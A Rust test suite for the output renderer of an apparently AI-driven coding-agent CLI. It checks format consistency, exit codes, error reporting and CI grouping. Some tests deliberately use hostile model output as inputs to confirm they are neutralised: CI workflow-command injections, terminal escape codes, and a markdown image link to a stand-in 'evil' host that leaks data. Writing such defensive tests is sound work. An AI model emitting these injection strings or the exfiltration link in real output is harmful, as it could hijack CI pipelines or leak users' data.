//! Tests the laws that hold between the outputs of one run.

use std::io::Write;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use serde_json::{Value, json};

use super::*;
use crate::event::{
    AssistantTurn, BudgetExceeded, CallFacts, ChangesReport, DeltaKind, Event, FileReport, PermissionDenial, Retry,
    RunError, RunFinished, RunStarted, SideRequest, TokenUsage, ToolResult, VerifyOutcome,
};
use crate::exit::Exit;

/// A stream that keeps what is written.
#[derive(Clone, Default)]
struct Kept(Arc<Mutex<Vec<u8>>>);

impl Kept {
    fn text(&self) -> String {
        String::from_utf8(self.0.lock().unwrap().clone()).unwrap()
    }
}

impl Write for Kept {
    fn write(&mut self, bytes: &[u8]) -> std::io::Result<usize> {
        self.0.lock().unwrap().extend_from_slice(bytes);
        Ok(bytes.len())
    }

    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

struct Closed;

impl Write for Closed {
    fn write(&mut self, _: &[u8]) -> std::io::Result<usize> {
        Err(std::io::ErrorKind::BrokenPipe.into())
    }

    fn flush(&mut self) -> std::io::Result<()> {
        Err(std::io::ErrorKind::BrokenPipe.into())
    }
}

const PATCH: &str = "diff --git a/a b/a\n--- a/a\n+++ b/a\n@@ -1 +1 @@\n-old\r\n+new\r\n";

fn end(exit: Exit) -> RunFinished {
    RunFinished {
        exit,
        error: None,
        result: "done\n--- a/x\n::set-output name=a::b \u{1b}[31m".into(),
        structured: None,
        changes_expected: true,
        changes: ChangesReport {
            mode: "dry-run".into(),
            files: vec![FileReport {
                path: "a".into(),
                kind: "modified".into(),
                added: 1,
                removed: 1,
                ..FileReport::default()
            }],
            patch: Some(PATCH.into()),
            ..ChangesReport::default()
        },
        branch: None,
        commit: None,
        findings: Vec::new(),
        places: Vec::new(),
        dropped: Default::default(),
        duration_ms: 3_400,
    }
}

/// A run in which everything happens once.
fn run(end: RunFinished) -> Vec<Event> {
    let call = CallFacts { id: "c1".into(), name: "edit".into(), input: json!({"file_path": "a"}), recovered: None };
    vec![
        Event::RunStarted(Box::new(RunStarted {
            run_id: "r1".into(),
            session_id: "s1".into(),
            cwd: "/w".into(),
            model: "m".into(),
            tools: vec!["edit".into()],
            permission_mode: "default".into(),
            changes_mode: "dry-run".into(),
            sandbox: "T3".into(),
            ..RunStarted::default()
        })),
        Event::TurnStarted { turn: 1, parent: None },
        Event::Delta { turn: 1, kind: DeltaKind::Reasoning, text: "hm".into() },
        Event::Delta { turn: 1, kind: DeltaKind::Text, text: "I will".into() },
        Event::Retry(Retry {
            turn: 1,
            attempt: 2,
            wait_ms: 1500,
            class: "rate_limit".into(),
            message: "slow\n::debug::x".into(),
        }),
        Event::ModelFallback { from: "m".into(), to: "n".into() },
        Event::Assistant(Box::new(AssistantTurn {
            parent: None,
            turn: 1,
            id: "a1".into(),
            model: "n".into(),
            text: "I will".into(),
            reasoning: "hm".into(),
            calls: vec![call],
            stop_reason: "tool_use".into(),
            usage: TokenUsage {
                input_tokens: Some(1200),
                output_tokens: Some(90),
                cache_read_input_tokens: Some(800),
                ..TokenUsage::default()
            },
            cost_usd: Some(0.0012),
            requests: 2,
            api_ms: 900,
        })),
        Event::Denied(Box::new(PermissionDenial {
            tool_name: "edit".into(),
            tool_use_id: "c1".into(),
            rule: Some("paths.write".into()),
            source: Some(".qwen/policy.yaml:3".into()),
            reason: "a is not writable".into(),
            turn: 1,
            ..PermissionDenial::default()
        })),
        Event::ToolResult(Box::new(ToolResult {
            parent: None,
            turn: 1,
            call_id: "c1".into(),
            tool: "edit".into(),
            description: "a".into(),
            is_error: true,
            content: "denied".into(),
            duration_ms: 12,
            ..ToolResult::default()
        })),
        Event::FileChange { path: "a".into(), kind: "modified".into(), added: 1, removed: 1 },
        Event::Command { argv: vec!["ls".into()], exit_code: Some(0), duration_ms: 3, sandboxed: true },
        Event::Verify(VerifyOutcome {
            command: "cargo test".into(),
            exit_code: Some(0),
            attempt: 1,
            duration_ms: 1234,
            passed: true,
            ..VerifyOutcome::default()
        }),
        Event::Budget(BudgetExceeded { kind: "tool_calls".into(), limit: 1.0, spent: 1.0 }),
        Event::SideRequest(Box::new(SideRequest {
            purpose: "compaction".into(),
            usage: TokenUsage { input_tokens: Some(3), output_tokens: Some(2), ..TokenUsage::default() },
            cost_usd: Some(0.0),
            requests: 1,
            api_ms: 4,
        })),
        Event::Compaction { before: 10, after: 5 },
        Event::Redaction { count: 2 },
        Event::Warning { message: "careful\u{1b}[2J".into() },
        Event::Status { message: "the model".into(), waited: Duration::from_secs(31) },
        Event::Todos { todos: vec![json!({"id": "1"})] },
        Event::RunFinished(Box::new(end)),
    ]
}

struct Printed {
    stdout: String,
    stderr: String,
    exit: Exit,
}

fn printed(events: &[Event], format: Format, change: impl FnOnce(&mut Outputs)) -> Printed {
    let (stdout, stderr) = (Kept::default(), Kept::default());
    let mut next = 0;
    let ids = Ids::new("before", move || {
        next += 1;
        format!("u{next}")
    });
    let mut outputs = Outputs::plain(format, Box::new(stdout.clone()), Box::new(stderr.clone()), ids);
    change(&mut outputs);
    let mut renderer = Renderer::new(outputs);
    for event in events {
        renderer.event(event);
    }
    let exit = renderer.close();
    Printed { stdout: stdout.text(), stderr: stderr.text(), exit }
}

fn lines(text: &str) -> Vec<Value> {
    text.lines().map(|line| serde_json::from_str(line).unwrap()).collect()
}

fn bare(message: &Value) -> Value {
    let mut message = message.clone();
    for key in ["uuid", "seq", "parent_tool_use_id"] {
        message.as_object_mut().unwrap().shift_remove(key);
    }
    message
}

#[test]
fn json_holds_exactly_what_stream_json_says() {
    let events = run(end(Exit::Denied));
    let streamed = lines(&printed(&events, Format::StreamJson, |_| {}).stdout);
    let array: Vec<Value> = serde_json::from_str(&printed(&events, Format::Json, |_| {}).stdout).unwrap();
    assert_eq!(streamed, array);
}

#[test]
fn the_result_is_the_fold_of_the_recorded_events() {
    let folder = tempfile::tempdir().unwrap();
    let events = run(end(Exit::Denied));
    let (recorded, result) = (folder.path().join("events"), folder.path().join("result"));
    let stdout = printed(&events, Format::Json, |outputs| {
        outputs.files.events = Some(recorded.clone());
        outputs.files.result = Some(result.clone());
    })
    .stdout;
    let recorded = std::fs::read_to_string(recorded).unwrap();
    let parsed: Vec<Event> = recorded.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    assert_eq!(parsed, events);
    let folded = serde_json::to_value(report(&parsed)).unwrap();
    let array: Vec<Value> = serde_json::from_str(&stdout).unwrap();
    assert_eq!(bare(array.last().unwrap()), folded);
    assert_eq!(serde_json::from_str::<Value>(&std::fs::read_to_string(result).unwrap()).unwrap(), folded);
    assert_eq!(serde_json::from_str::<Value>(&printed(&events, Format::Result, |_| {}).stdout).unwrap(), folded);
}

#[test]
fn the_messages_say_what_the_result_counts() {
    let messages = lines(&printed(&run(end(Exit::Denied)), Format::StreamJson, |_| {}).stdout);
    let result = messages.last().unwrap();
    let of = |subtype: &str| {
        messages.iter().filter(|m| m["type"] == "system" && m["subtype"] == subtype).collect::<Vec<_>>()
    };
    let count = |kind: &str| messages.iter().filter(|m| m["type"] == kind).count();
    assert_eq!(result["num_turns"], count("assistant"));
    assert_eq!(result["num_tool_calls"], count("user"));
    assert_eq!(result["permission_denials"].as_array().unwrap().len(), of("permission_denied").len());
    assert_eq!(result["retries"].as_array().unwrap().len(), of("api_retry").len());
    assert_eq!(result["verify"].as_array().unwrap().len(), of("verify").len());
    assert_eq!(result["warnings"][0], of("warning")[0]["message"]);
    assert_eq!(result["redactions"], of("redaction")[0]["count"]);
    assert_eq!((&messages[0]["subtype"], &messages[0]["session_id"]), (&json!("init"), &json!("s1")));
    for (seq, message) in messages.iter().enumerate() {
        assert_eq!(message["seq"], seq);
        assert_eq!(message["uuid"], format!("u{}", seq + 1));
        assert_eq!(message["session_id"], "s1");
        assert_eq!(message["parent_tool_use_id"], Value::Null);
    }
}

#[test]
fn the_result_has_the_fields_of_the_contract_in_their_order() {
    let result = serde_json::to_value(report(&run(end(Exit::Ok)))).unwrap();
    let keys: Vec<&str> = result.as_object().unwrap().keys().map(String::as_str).collect();
    insta::assert_snapshot!(keys.join(" "), @"type subtype schema_version is_error exit_code exit_reason conclusion run_id session_id model recipe trace_id num_turns num_tool_calls duration_ms duration_api_ms result structured_result structured_output usage total_cost_usd budget permission_denials changes git verify findings dropped todos retries redactions replay warnings error stats");
    assert_eq!(
        result["usage"],
        json!({"input_tokens": 1203, "cache_read_input_tokens": 800, "output_tokens": 92, "reasoning_tokens": null, "total_tokens": 1295, "requests": 3})
    );
    assert_eq!(result["model"], "n");
    assert_eq!(result["budget"]["exceeded"], json!({"kind": "tool_calls", "limit": 1, "spent": 1}));
}

#[test]
fn an_unreported_count_is_null_with_an_estimate() {
    let turn = |usage| Event::Assistant(Box::new(AssistantTurn { usage, ..AssistantTurn::default() }));
    let known = TokenUsage { input_tokens: Some(5), output_tokens: Some(2), ..TokenUsage::default() };
    let unknown = TokenUsage { estimated: Some(40), ..TokenUsage::default() };
    let report = report(&[turn(known), turn(unknown)]);
    assert_eq!((report.usage.total_tokens, report.usage.estimated), (None, Some(47)));
    assert_eq!(report.total_cost_usd, None);
}

#[test]
fn every_ending_has_its_subtype_and_conclusion() {
    let row = |exit| {
        let report = report(&[Event::RunFinished(Box::new(end(exit)))]);
        format!(
            "{} {} {} {}",
            report.ending.exit_code, report.ending.subtype, report.ending.is_error, report.ending.conclusion
        )
    };
    for (exit, expected) in [
        (Exit::Ok, "0 success false success"),
        (Exit::Gate, "3 success false findings"),
        (Exit::Denied, "60 success false denied"),
        (Exit::NoChanges, "65 success false nothing_to_do"),
        (Exit::Turns, "53 error_max_turns true limit"),
        (Exit::Budget, "55 error_during_execution true limit"),
        (Exit::Verify, "64 error_during_execution true verify_failed"),
        (Exit::Interrupted, "130 error_during_execution true error"),
    ] {
        assert_eq!(row(exit), expected);
    }
    let nothing = RunFinished { changes: ChangesReport::default(), ..end(Exit::Ok) };
    assert_eq!(report(&[Event::RunFinished(Box::new(nothing))]).ending.conclusion, "nothing_to_do");
}

#[test]
fn a_run_that_does_not_say_how_it_ended_is_an_internal_error() {
    let printed = printed(&[], Format::Result, |_| {});
    let result: Value = serde_json::from_str(&printed.stdout).unwrap();
    assert_eq!((printed.exit, &result["error"]["code"]), (Exit::Failed, &json!("internal")));
    assert_eq!(result["session_id"], Value::Null);
}

#[test]
fn text_is_the_answer_and_the_patch_that_git_takes() {
    let events = run(end(Exit::Ok));
    let piped = printed(&events, Format::Text, |_| {}).stdout;
    assert_eq!(piped, format!("done\n --- a/x\n::set-output name=a::b \\u{{1b}}[31m\n\n{PATCH}"));
    let logged = printed(&events, Format::Text, |outputs| outputs.ci = true).stdout;
    assert!(logged.contains("| ::set-output") && !logged.contains('\r'), "{logged}");
    let applied =
        RunFinished { changes: ChangesReport { mode: "apply".into(), ..end(Exit::Ok).changes }, ..end(Exit::Ok) };
    assert!(!printed(&run(applied), Format::Text, |_| {}).stdout.contains("diff --git"));
}

#[test]
fn patch_is_the_patch_byte_for_byte_and_nothing_without_changes() {
    assert_eq!(printed(&run(end(Exit::Ok)), Format::Patch, |_| {}).stdout, PATCH);
    let nothing = RunFinished { changes: ChangesReport::default(), ..end(Exit::Ok) };
    assert_eq!(printed(&run(nothing), Format::Patch, |_| {}).stdout, "");
    let encoded = ChangesReport { patch: None, patch_base64: Some("YQ==".into()), ..ChangesReport::default() };
    let binary = RunFinished { changes: encoded, ..end(Exit::Ok) };
    assert_eq!(printed(&run(binary), Format::Patch, |_| {}).stdout, "a");
}

#[test]
fn a_closed_output_changes_neither_run_nor_exit_code() {
    for format in [Format::Text, Format::Json, Format::StreamJson, Format::Result, Format::Patch] {
        let printed = printed(&run(end(Exit::Ok)), format, |outputs| {
            outputs.stdout = Box::new(Closed);
            outputs.screen = Screen::Plain(Box::new(Closed));
        });
        assert_eq!(printed.exit, Exit::Ok, "{format:?}");
    }
}

#[test]
fn a_file_that_cannot_be_written_fails_the_run_and_is_named() {
    let printed = printed(&run(end(Exit::Ok)), Format::Result, |outputs| {
        outputs.files.patch = Some("/nonexistent/x.patch".into());
    });
    let result: Value = serde_json::from_str(&printed.stdout).unwrap();
    assert_eq!((printed.exit, &result["error"]["code"]), (Exit::Failed, &json!("output")));
    assert!(printed.stderr.lines().last().unwrap().contains("/nonexistent/x.patch"));
}

#[test]
fn a_file_that_cannot_be_written_is_known_before_any_work() {
    let outputs = |path: &str| {
        let ids = Ids::new("s", String::new);
        let mut outputs = Outputs::plain(Format::Result, Box::new(Kept::default()), Box::new(Kept::default()), ids);
        outputs.files.result = Some(path.into());
        outputs
    };
    let renderer = Renderer::new(outputs("/nonexistent/result.json"));
    assert!(renderer.problem().unwrap().contains("--result-file /nonexistent/result.json"));
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("result.json");
    let renderer = Renderer::new(outputs(path.to_str().unwrap()));
    assert_eq!(renderer.problem(), None);
    assert_eq!(std::fs::read_dir(folder.path()).unwrap().count(), 0);
    assert_eq!(Renderer::new(outputs("/dev/null")).problem(), None);
}

#[test]
fn a_panic_still_leaves_one_result() {
    let stdout = Kept::default();
    let kept = stdout.clone();
    let panicked = std::panic::catch_unwind(move || {
        let ids = Ids::new("s", String::new);
        let outputs = Outputs::plain(Format::StreamJson, Box::new(kept), Box::new(Kept::default()), ids);
        let mut renderer = Renderer::new(outputs);
        renderer.event(&Event::Warning { message: "soon".into() });
        panic!("a bug");
    });
    assert!(panicked.is_err());
    let messages = lines(&stdout.text());
    assert_eq!(messages.iter().filter(|message| message["type"] == "result").count(), 1);
    assert_eq!(messages.last().unwrap()["exit_code"], 1);
}

#[test]
fn a_patch_file_is_named_in_the_result() {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("x.patch");
    let stdout =
        printed(&run(end(Exit::Ok)), Format::Result, |outputs| outputs.files.patch = Some(path.clone())).stdout;
    assert_eq!(std::fs::read_to_string(&path).unwrap(), PATCH);
    let result: Value = serde_json::from_str(&stdout).unwrap();
    assert_eq!(result["changes"]["patch_file"], path.display().to_string());
}

#[test]
fn a_fatal_error_stands_on_standard_error_as_json_too() {
    let error = RunError { code: "auth".into(), message: "no key".into(), ..RunError::default() };
    let printed =
        printed(&[Event::RunFinished(Box::new(RunFinished::failed(Exit::Auth, error)))], Format::Json, |_| {});
    let last: Value = serde_json::from_str(printed.stderr.lines().last().unwrap()).unwrap();
    assert_eq!(last, json!({"error": {"type": "FatalAuthenticationError", "message": "no key", "code": 41}}));
    let array: Vec<Value> = serde_json::from_str(&printed.stdout).unwrap();
    assert_eq!(array.len(), 1);
}

#[test]
fn partial_messages_open_and_close_every_block() {
    let streamed =
        lines(&printed(&run(end(Exit::Ok)), Format::StreamJson, |outputs| outputs.include_partial = true).stdout);
    let kinds: Vec<String> = streamed
        .iter()
        .filter(|message| message["type"] == "stream_event")
        .map(|message| format!("{}{}", message["event"]["type"].as_str().unwrap(), message["event"]["index"]))
        .collect();
    insta::assert_snapshot!(kinds.join(" "), @"message_startnull content_block_start0 content_block_delta0 content_block_stop0 content_block_start1 content_block_delta1 content_block_stop1 content_block_start2 content_block_delta2 content_block_stop2 message_stopnull");
}

#[test]
fn the_lines_for_people_keep_their_shapes() {
    let stderr = printed(&run(end(Exit::Ok)), Format::Text, |_| {}).stderr;
    insta::assert_snapshot!(stderr, @r"
    run r1 model m policy  changes dry-run sandbox T3
    ctx /w git none tools 1
    retry 2 in 1.5 s: rate_limit: slow\n::debug::x
    model m -> n
    deny edit rule paths.write (.qwen/policy.yaml:3): a is not writable
    check cargo test pass 1.2 s
    budget tool_calls 1 of 1
    ctx compacted from 10 to 5 tokens
    warning: careful\u{1b}[2J
    wait 31 s: the model
    ok 1 file, +1 -1  1 turn  1203 in (800 cached) / 92 out  ~$0.0012  3.4 s
    ");
}

#[test]
fn github_gets_groups_and_no_command_of_the_models() {
    let mut hostile = end(Exit::Ok);
    hostile.result = "  ::error::x\n##[add-mask]y".into();
    let printed = printed(&run(hostile), Format::Text, |outputs| {
        (outputs.ci, outputs.groups, outputs.verbosity) = (true, true, Verbosity::Debug);
    });
    let commands: Vec<&str> = printed
        .stderr
        .lines()
        .chain(printed.stdout.lines())
        .filter(|line| line.trim_start().starts_with("::") || line.contains("##["))
        .collect();
    assert_eq!(commands, ["::group::turn 1", "::endgroup::"]);
}

#[test]
fn quiet_keeps_errors_only() {
    assert_eq!(printed(&run(end(Exit::Ok)), Format::Patch, |outputs| outputs.verbosity = Verbosity::Quiet).stderr, "");
    let error = RunError { message: "no key".into(), hint: Some("set QWEN_API_KEY".into()), ..RunError::default() };
    let events = [Event::RunFinished(Box::new(RunFinished::failed(Exit::Auth, error)))];
    let stderr = printed(&events, Format::Text, |outputs| outputs.verbosity = Verbosity::Quiet).stderr;
    assert_eq!(stderr, "error: no key; set QWEN_API_KEY\n");
}

#[test]
fn an_error_of_several_lines_keeps_them_and_none_looks_like_ours() {
    let error = RunError {
        message: "r.yaml:1:3: R005: wrong\n  |\n1 | \u{1b}x\n::error::y\nok 1 files".into(),
        hint: Some("read it".into()),
        ..RunError::default()
    };
    let events = [Event::RunFinished(Box::new(RunFinished::failed(Exit::Input, error)))];
    let stderr = printed(&events, Format::Text, |outputs| outputs.ci = true).stderr;
    let lines: Vec<&str> = stderr.lines().collect();
    assert_eq!(lines[..3], ["error: r.yaml:1:3: R005: wrong", "    |", "  1 | \\u{1b}x"], "{stderr}");
    assert!(lines[3..].iter().all(|line| line.starts_with("  ") && !line.trim_start().starts_with("::")), "{stderr}");
    assert_eq!(lines.last(), Some(&"  hint: read it"));
}

#[test]
fn colours_follow_flag_then_environment_then_terminal() {
    let on = |flag, variables: &[(&str, &str)], terminal| {
        let get = |name: &str| variables.iter().find(|(n, _)| *n == name).map(|(_, value)| (*value).to_owned());
        Colours::from_environment(flag, get).on(terminal)
    };
    assert!(on(Colour::Always, &[("NO_COLOR", "1")], false));
    assert!(!on(Colour::Never, &[("FORCE_COLOR", "1")], true));
    assert!(!on(Colour::Auto, &[("NO_COLOR", "1"), ("FORCE_COLOR", "1")], true));
    assert!(on(Colour::Auto, &[("FORCE_COLOR", "1"), ("CLICOLOR", "0")], false));
    assert!(on(Colour::Auto, &[("CLICOLOR_FORCE", "1")], false));
    assert!(!on(Colour::Auto, &[("CLICOLOR", "0")], true));
    assert!(on(Colour::Auto, &[("NO_COLOR", "")], true));
    assert!(!on(Colour::Auto, &[], false));
}

#[test]
fn a_summary_shows_the_models_words_as_code() {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("summary.md");
    let mut hostile = end(Exit::Ok);
    hostile.result = "```\n![x](http://evil/?leak) @somebody\n````".into();
    printed(&run(hostile), Format::Text, |outputs| outputs.files.summary = Some(path.clone()));
    let summary = std::fs::read_to_string(path).unwrap();
    assert!(summary.contains("`````text\n```\n![x]"), "{summary}");
    assert!(summary.contains("| `a` | modified | 1 | 1 |"), "{summary}");
}
